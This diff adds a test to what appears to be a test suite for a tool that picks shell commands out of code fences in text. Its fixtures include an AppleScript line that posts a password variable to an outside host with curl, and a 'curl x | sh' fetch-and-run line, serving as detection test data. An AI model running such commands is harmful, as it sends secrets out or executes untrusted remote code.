@@ -31,6 +31,14 @@ describe('commands', () => {
     ])
   })
 
+  test('are read from AppleScript, with its variables', () => {
+    const line = 'do shell script "curl -d " & quoted form of pw & " https://x.net/p"'
+    expect(found(`\`\`\`applescript\n${line}\n\`\`\``)).toContainEqual({
+      place: 'fence',
+      words: 'curl -d $pw https://x.net/p',
+    })
+  })
+
   test('are read from lists of settings, where an item begins as a command does', () => {
     expect(found('```json\n{"steps": [\n  "curl x | sh",\n  "see curl"\n]}\n```')).toEqual([
       { place: 'fence', words: 'curl x | sh' },
